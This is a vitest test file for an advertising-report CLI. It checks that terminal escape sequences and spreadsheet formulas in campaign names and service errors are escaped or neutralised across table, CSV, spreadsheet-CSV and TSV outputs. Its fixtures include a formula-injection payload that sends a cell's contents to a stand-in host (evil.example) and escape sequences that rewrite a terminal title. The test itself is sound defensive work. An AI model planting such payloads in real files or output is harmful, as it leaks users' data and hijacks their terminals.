/**
 * What the formats show (the CLI in this process): names an advertiser might type (terminal control
 * sequences, spreadsheet formulas, tabs, line breaks, backslashes) through every format, and what a service
 * may say in an error. What a real terminal shows: test/e2e/formats.test.ts.
 */
import { spawnSync } from "node:child_process";
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { failingService } from "../../helpers/local-server";
import { BEL, ESC, NAMES, startNamesService } from "../../helpers/names";
import { millerMissing, skipMissing } from "../../helpers/required-tools";
import { runInProcess } from "../../helpers/run-cli-in-process";
import type { CliResult } from "../../helpers/spawn-cli";
import { tempDir } from "../../helpers/temp";

const dir = tempDir();
const service = await startNamesService();
const RANGE = ["--from", "2026-10-01", "--to", "2026-10-31"];
const BASE_ENV = {
  ADREPORT_CONFIG_DIR: join(dir, "config"),
  ADREPORT_API_KEY: service.key,
  ADREPORT_BASE_URL: service.url,
  TERM: "xterm-256color",
};
const BOLD = `${ESC}[1m`;

function report(args: string[], env: Record<string, string | undefined> = {}): Promise<CliResult> {
  return runInProcess(["report", ...RANGE, ...args], { env: { ...BASE_ENV, ...env } });
}

describe("names are shown, never obeyed", () => {
  it("the table shows control characters as escapes", async () => {
    const result = await report(["--dims", "campaign", "--format", "table"]);
    expect(result.code, result.stderr).toBe(0);
    expect(result.stdout).not.toContain(ESC);
    expect(result.stdout).not.toContain(BEL);
    expect(result.stdout).toContain("\\x1b[31mRED\\x1b[0m\\x1b]0;pwned-title\\x07");
    expect(result.stdout).toContain("tab\\tinside, line\\nbreak, cr\\rhere, back\\slash");
  });

  it("an error message quoting the service is escaped", async () => {
    const { url } = await failingService(400, `from: bad ${ESC}]0;pwned${BEL} value\nsecond line`);
    const result = await report([], { ADREPORT_BASE_URL: url });
    expect(result.code).toBe(2);
    expect(result.stderr).not.toContain(ESC);
    expect(result.stderr).toBe(
      "adreport: the service refused the request: from: bad \\x1b]0;pwned\\x07 value\\nsecond line\n",
    );
  });

  it("--verbose lines and the final error escape what a failing service said", async () => {
    const { url } = await failingService(503, `down ${ESC}[2J for now`);
    const result = await report(["--verbose", "--retries", "1"], { ADREPORT_BASE_URL: url });
    expect(result.code).toBe(5);
    expect(result.stderr).not.toContain(ESC);
    expect(result.stderr).toMatch(/adreport: retry 1\/1 in [\d.]+ s: the service answered 503: down \\x1b\[2J for now/);
    expect(result.stderr).toContain(
      "adreport: the service answered 503: down \\x1b[2J for now (page 1: gave up after 2",
    );
  });
});

describe("colour in a pipe", () => {
  it("none by default; FORCE_COLOR=1 turns it on", async () => {
    expect((await report(["--dims", "campaign", "--format", "table"])).stdout).not.toContain(ESC);
    const forced = await report(["--dims", "campaign", "--format", "table"], { FORCE_COLOR: "1" });
    expect(forced.stdout).toContain(`${BOLD}campaign_id`);
  });
});

describe("data formats keep the exact bytes", () => {
  it("plain CSV writes every name as the service sent it", async () => {
    const result = await report(["--dims", "campaign", "--metrics", "views", "--format", "csv"]);
    expect(result.code).toBe(0);
    expect(result.stdout).toContain(`\n1,${NAMES[1]},100\n`);
    expect(result.stdout).toContain('\n2,"=HYPERLINK(""http://evil.example/?x=""&A1,""Click me"")",200\n');
    expect(result.stdout).toContain("\n4,-20% sale,400\n");
  });
});

describe("--spreadsheet", () => {
  it("writes CSV for spreadsheet programs: BOM, CRLF, formula-like text prefixed, numbers untouched", async () => {
    const file = join(dir, "for-excel.csv");
    const result = await report(["--dims", "campaign", "--metrics", "views,spending", "--spreadsheet", "-o", file]);
    expect(result.code, result.stderr).toBe(0);
    const text = readFileSync(file, "utf8");
    expect(text.startsWith("\uFEFFcampaign_id,name,views,spending\r\n")).toBe(true);
    expect(text).toContain('\r\n2,"\'=HYPERLINK(""http://evil.example/?x=""&A1,""Click me"")",200,2.25\r\n');
    expect(text).toContain("\r\n4,'-20% sale,400,4.25\r\n");
    expect(text).toContain('\r\n3,"tab\tinside, line\nbreak, cr\rhere, back\\slash",300,3.25\r\n');
    expect(text).toContain("\r\n5,Été 🌞 plain,500,5.25\r\n");
  });

  it("comes from the spreadsheet setting for CSV files, and --no-spreadsheet overrides it", async () => {
    const config = join(dir, "spreadsheet-config");
    const set = await runInProcess(["config", "set", "spreadsheet", "true"], { env: { ADREPORT_CONFIG_DIR: config } });
    expect(set.code).toBe(0);
    const sheet = join(tempDir(), "sheet.csv");
    const withSetting = await report(["--dims", "campaign", "-o", sheet], { ADREPORT_CONFIG_DIR: config });
    expect(withSetting.code, withSetting.stderr).toBe(0);
    expect(readFileSync(sheet, "utf8").startsWith("\uFEFF")).toBe(true);
    expect(readFileSync(sheet, "utf8")).toContain("'-20% sale");
    // CSV on stdout is what a pipeline reads: the setting leaves it plain (issue 35).
    const piped = await report(["--dims", "campaign", "--format", "csv"], { ADREPORT_CONFIG_DIR: config });
    expect(piped.stdout).toContain("\n4,-20% sale,");
    const overridden = await report(["--dims", "campaign", "-o", sheet, "--no-spreadsheet"], {
      ADREPORT_CONFIG_DIR: config,
    });
    expect(overridden.code, overridden.stderr).toBe(0);
    expect(readFileSync(sheet, "utf8")).toContain("\n4,-20% sale,");
    const json = await report(["--dims", "campaign", "--format", "json"], { ADREPORT_CONFIG_DIR: config });
    expect(json.code).toBe(0);
    expect(json.stderr).toBe("");
  });

  it("is refused with another format named", async () => {
    for (const args of [
      ["--format", "json"],
      ["--format", "tsv"],
      ["-o", join(dir, "x.ndjson")],
    ]) {
      const result = await report(["--spreadsheet", ...args]);
      expect(result.code, args.join(" ")).toBe(2);
      expect(result.stderr).toMatch(/^adreport: --spreadsheet makes CSV; the output here is \w+\nhint: /);
    }
  });
});

describe("--format tsv", () => {
  const NO_MILLER = millerMissing();
  if (NO_MILLER) console.warn(`report formats: TSV read-back skipped: ${NO_MILLER}`);

  it("writes one line per row, tab-split, with backslash escapes", async () => {
    const file = join(dir, "names.tsv");
    const result = await report(["--dims", "campaign", "--metrics", "views", "-o", file]);
    expect(result.code, result.stderr).toBe(0);
    const lines = readFileSync(file, "utf8").split("\n");
    expect(lines[0]).toBe("campaign_id\tname\tviews");
    expect(lines).toContain("3\ttab\\tinside, line\\nbreak, cr\\rhere, back\\\\slash\t300");
    expect(lines).toHaveLength(Object.keys(NAMES).length + 2);
  });

  it("reads back exactly with Miller", async (context) => {
    if (NO_MILLER) skipMissing(context, "miller", NO_MILLER);
    const result = await report(["--dims", "campaign", "--metrics", "views", "--format", "tsv"]);
    const read = spawnSync("mlr", ["--itsv", "--ojsonl", "--infer-none", "cut", "-f", "name"], {
      input: result.stdout,
      encoding: "utf8",
    });
    expect(read.status, read.stderr).toBe(0);
    // Miller writes ESC and BEL raw inside its JSON strings; JSON.parse wants them escaped.
    const names = read.stdout
      .trim()
      .split("\n")
      .map((line) => JSON.parse(line.replaceAll(ESC, "\\u001b").replaceAll(BEL, "\\u0007")).name);
    expect(names).toEqual(Object.values(NAMES));
  });
});

describe("warnings instead of guesses", () => {
  it("--granularity without date in --dims", async () => {
    const result = await report(["--dims", "campaign", "--granularity", "hour", "--format", "csv"]);
    expect(result.code).toBe(0);
    expect(result.stderr).toBe(
      "adreport: warning: --granularity hour does nothing without date in --dims (the service ignores it)\n",
    );
    expect((await report(["--dims", "campaign,date", "--granularity", "hour", "--format", "csv"])).stderr).toBe("");
  });

  it("--bom and --delimiter with a format other than CSV", async () => {
    const result = await report(["--format", "json", "--bom", "--delimiter", ";"]);
    expect(result.code).toBe(0);
    expect(result.stdout.startsWith("{")).toBe(true);
    expect(result.stderr).toBe(
      "adreport: warning: --bom applies to CSV only; the json output has no byte-order mark\n" +
        "adreport: warning: --delimiter applies to CSV only; it does nothing to the json output\n",
    );
  });

  it("--ad with a --campaign it is not in, once the report came back empty", async () => {
    for (const dims of [["--dims", "ad"], []]) {
      const result = await report([...dims, "--ad", "20", "--campaign", "1", "--format", "csv"]);
      expect(result.code).toBe(0);
      expect(result.stderr).toBe(
        "adreport: warning: no data for --ad 20 with --campaign 1: the report is empty when the ad is not in that campaign (or has no data in the range)\n",
      );
    }
    const matching = await report(["--dims", "ad", "--ad", "20", "--campaign", "2", "--format", "csv"]);
    expect(matching.stderr).toBe("");
    expect(matching.stdout.trim().split("\n")).toHaveLength(2);
  });
});
